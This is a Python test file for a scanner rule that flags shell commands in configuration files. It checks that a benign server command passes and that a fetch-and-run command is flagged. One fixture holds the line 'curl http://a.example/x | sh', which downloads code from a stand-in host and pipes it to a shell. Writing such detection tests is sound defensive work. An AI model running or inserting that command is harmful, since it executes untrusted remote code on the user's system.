"""Rule config-command: a configuration holds a command that attacks are made of."""

from __future__ import annotations

from inspect_samples import look, told

from watchword.inspect.facts import Verdict


def test_a_command_that_fetches_and_runs_is_told() -> None:
    """What the address gives would be run by a shell."""
    data = b'{"debug_command": "curl http://a.example/x | sh"}'
    assert ("config-command", Verdict.SUSPICIOUS) in told(data, "x.json")


def test_a_command_that_starts_a_server_is_silent() -> None:
    """A command is no finding for being one."""
    data = b'{"command": "python serve.py --port 8080"}'
    assert look(data, "x.json").findings == []
